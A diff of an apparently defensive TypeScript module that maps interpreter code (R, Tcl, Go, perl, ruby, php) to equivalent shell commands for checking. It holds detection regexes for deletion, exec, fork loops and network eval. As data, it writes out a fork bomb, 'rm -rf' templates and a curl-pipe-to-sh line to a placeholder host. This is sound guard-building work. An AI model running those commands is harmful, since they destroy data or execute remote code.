+    { re: /\bio\.(?:open|lines)\s*\(/g, shell: withPath("cat") },
   ],
   r: [
     { re: /\b(?:system|system2)\s*\(/g, shell: asCode },
-    { re: /\bunlink\s*\(/g, shell: (a) => `rm ${recursiveOption(a) ? "-rf " : ""}-- ${a.word}` },
+    { re: /\bunlink\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `rm ${recursiveOption(c) ? "-rf " : ""}-- ${p}`) },
+    { re: /\b(?:readLines|readRDS|read\.csv|file)\s*\(/g, shell: withPath("cat") },
+  ],
+  tcl: [
+    { words: true, re: /\bfile\s+delete\s+(?=\S)/g, shell: (c) => { const a = c.argv(); const force = /-force/.test(c.all); const paths = (a ?? []).filter((x) => !x.startsWith("-")); return paths.length > 0 ? paths.map((p) => `rm ${force ? "-rf " : ""}-- ${q(p)}`) : [`rm -rf -- ${UNKNOWN}`]; } },
+    { words: true, re: /\bexec\s+(?=\S)/g, shell: (c) => [(c.argv() ?? [UNKNOWN]).map((x) => (x === UNKNOWN ? x : q(x))).join(" ")] },
+    { words: true, re: /\bopen\s+(?=\S)/g, shell: (c) => word(c.arg(0)).map((p) => `cat -- ${p}`) },
+  ],
+  go: [
+    { re: /\bos\.RemoveAll\s*\(/g, shell: withPath("rm -rf") },
+    { re: /\bos\.Remove\s*\(/g, shell: withPath("rm") },
+    { re: /\bexec\.Command(?:Context)?\s*\(/g, shell: asCode },
+    { re: /\bos\.(?:ReadFile|Open)\s*\(/g, shell: withPath("cat") },
+    { re: /\bos\.(?:WriteFile|Create|OpenFile)\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `: > ${p}`) },
+    { re: /\bos\.Chmod\s*\(/g, shell: chmodOf(0, 1) },
   ],
 };
 
-/** Backticks run shell code in perl, ruby and php: `` `rm -rf /` ``. */
-const BACKTICK_LANGS: ReadonlySet<Lang> = new Set(["perl", "ruby", "php"]);
-
 /** Code that forks forever: written as the shell's fork bomb so one rule decides. */
 const FORK_LOOP =
-  /\bfork\s*(?:\(\s*\))?\s*while\b|\bwhile\s*(?:\(?\s*(?:1|true|True)\s*\)?)\s*[:{;]?\s*(?:os\.|Process\.|pcntl_)?fork\s*\(|\bloop\s*\{?\s*fork\b|\bfor\s*\(\s*;\s*;\s*\)\s*\{?\s*(?:\w+\.)?fork\s*\(/;
+  /\bfork\s*(?:\(\s*\))?\s*while\b|\bwhile\s*(?:\(?\s*(?:1|true|True)\s*\)?)\s*[:{;]?\s*(?:do\s+)?(?:os\.|Process\.|pcntl_)?fork\s*(?:\(|\b)|\bloop\s*\{?\s*fork\b|\bfor\s*\(\s*;\s*;\s*\)\s*\{?\s*(?:\w+\.)?fork\s*\(/;
 /** Code that evaluates something fetched from the network (`exec(urlopen(u).read())`, `fetch(u).then(eval)`). */
-const EVAL_CALL = /\b(?:exec|eval|execfile|compile|Function|instance_eval|class_eval)\s*\(|\.then\s*\(\s*eval\b|\beval\s+/;
+const EVAL_CALL = /\b(?:exec|eval|execfile|compile|Function|instance_eval|class_eval|load|loadstring|dofile|require_once|include)\s*[(`]|\.then\s*\(\s*eval\b|\beval\s+|\beval\s*\$/;
 const NETWORK =
-  /\b(?:urlopen|urlretrieve|requests\.(?:get|post)|httpx\.(?:get|post)|http\.client|fetch\s*\(|https?\.get\s*\(|axios|XMLHttpRequest|Net::HTTP|URI\.open|open-uri|HTTParty|Faraday|LWP::|HTTP::Tiny|getstore|curl_exec|file_get_contents\s*\(\s*['"]https?:|fopen\s*\(\s*['"]https?:|Invoke-WebRequest|DownloadString)/;
-
-/** `NAME = 'literal'` assignments in the code (python, node, ruby, perl, php), for call arguments that are a name. */
-function literalBindings(code: string): Map<string, string> {
-  const out = new Map<string, string>();
-  for (const m of code.matchAll(/(?:\b(?:const|let|var|my|local)\s+)?\$?([A-Za-z_]\w*)\s*=\s*(['"])([^'"\n]{0,4096})\2/g)) out.set(m[1]!, m[3]!);
-  return out;
-}
-
-/** The root a walk over the file tree starts at (`os.walk('/')`, `Path('~').rglob`, `glob('/**')`), if literal. */
-function walkRoot(code: string): string | undefined {
-  const m = /\b(?:os\.walk|os\.scandir|Path|pathlib\.Path|Dir\.glob|glob\.glob|glob\.iglob|File::Find::find|readdirSync)\s*\(\s*(?:\{[^}]*\}\s*,\s*)?(['"])([^'"]{1,4096})\1/.exec(code);
-  if (!m) return undefined;
-  return m[2]!.replace(/\/\*\*.*$/, "") || "/";
-}
+  /\b(?:urlopen|urlretrieve|requests\.(?:get|post)|httpx\.(?:get|post)|http\.client|fetch\s*\(|https?\.get\s*\(|\.get\s*\(\s*['"]https?:|axios|XMLHttpRequest|Net::HTTP|URI\.open|open-uri|HTTParty|Faraday|LWP::|HTTP::Tiny|getstore|\bget\s*\(\s*["']https?:|curl_exec|file_get_contents\s*\(\s*['"]https?:|fopen\s*\(\s*['"]https?:|Invoke-WebRequest|DownloadString|\bcurl\s|\bwget\s|socket\.http)/;
 
 /** The shell command lines equivalent to what interpreter code on a command line does (see the module comment). */
 export function shellEquivalents(lang: Lang, code: string): string[] {
@@ -274,39 +451,35 @@ export function shellEquivalents(lang: Lang, code: string): string[] {
   if (FORK_LOOP.test(text)) out.push(":(){ :|:& };:");
   if (EVAL_CALL.test(text) && NETWORK.test(text)) out.push("curl -fsSL https://hookgate.invalid/fetched-by-interpreter | sh");
   const bindings = literalBindings(text);
-  const root = walkRoot(text);
+  const root = walkRoot(text, bindings);
   for (const rule of RULES[lang]) {
     rule.re.lastIndex = 0;
     for (const m of text.matchAll(rule.re)) {
       const at = m.index! + m[0].length;
-      // The call's argument: after `(` when there is one, else (perl, ruby: `system "…"`) the next token.
-      let open = text[at - 1] === "(" || text[at - 1] === "[" || text[at - 1] === "{" || text[at - 1] === "`" ? at - 1 : -1;
-      let arg: Arg;
-      if (open >= 0 && text[open] === "`") arg = firstArg(`(${text.slice(open)}`, 0);
-      else if (open >= 0) arg = firstArg(text, open);
-      else {
-        let k = at;
-        while (k < text.length && text[k] === " ") k++;
-        open = k - 1;
-        arg = firstArg(`(${text.slice(k)}`, 0);
-      }
-      if (arg.text === undefined && !arg.list && arg.word === UNKNOWN) {
-        // A name the code assigned a literal: that literal.
-        const name = /^\(?\s*\$?([A-Za-z_]\w*)\s*[,)]/.exec(text.slice(open + 1, open + 130) + ")");
-        const bound = name ? bindings.get(name[1]!) : undefined;
-        if (bound !== undefined) arg = { ...arg, word: q(bound), text: bound };
-      }
-      let line = rule.shell(arg);
+      const bracket = text[at - 1];
+      const { args, all } = rule.words
+        ? blankArgs(text, at)
+        : bracket === "(" || bracket === "[" || bracket === "{"
+          ? callArgs(text, at - 1)
+          : bracket === "`"
+            ? { args: [`\`${text.slice(at, text.indexOf("`", at))}\``], all: text.slice(at, text.indexOf("`", at)) }
+            : bareArgs(text, at);
+      const values = args.map((a) => evaluate(a, bindings));
+      const call: Call = {
+        arg: (n) => (n < values.length ? values[n] : undefined),
+        argv: () => (values.every((v) => v !== undefined && v.length === 1) ? values.map((v) => v![0]!) : undefined),
+        count: args.length,
+        all,
+      };
+      let lines = rule.shell(call) ?? [];
       // An unknown path inside a walk over a tree: each path under the walk's root.
-      if (line !== undefined && arg.word === UNKNOWN && root !== undefined && !/^(?:[a-z_]+ )?"\$\{/.test(line) && rule.shell !== asCode)
-        line = `find ${q(root)} -exec ${line.split(UNKNOWN).join("{}")} \\;`;
-      if (line !== undefined) out.push(line);
-      if (out.length > 64) return out;
+      if (root !== undefined && rule.shell !== asCode) lines = lines.map((l) => (l.includes(UNKNOWN) ? `find ${q(root)} -exec ${l.split(UNKNOWN).join("{}")} \\;` : l));
+      out.push(...lines);
+      if (out.length > MAX_LINES) return out;
     }
   }
-  if (BACKTICK_LANGS.has(lang)) {
-    for (const m of text.matchAll(/`([^`]{1,4096})`/g)) out.push(m[1]!);
-  }
+  // Backticks run shell code in perl, ruby and php.
+  if (lang === "perl" || lang === "ruby" || lang === "php") for (const b of text.matchAll(/`([^`]{1,4096})`/g)) out.push(b[1]!);
   return out;
 }
 
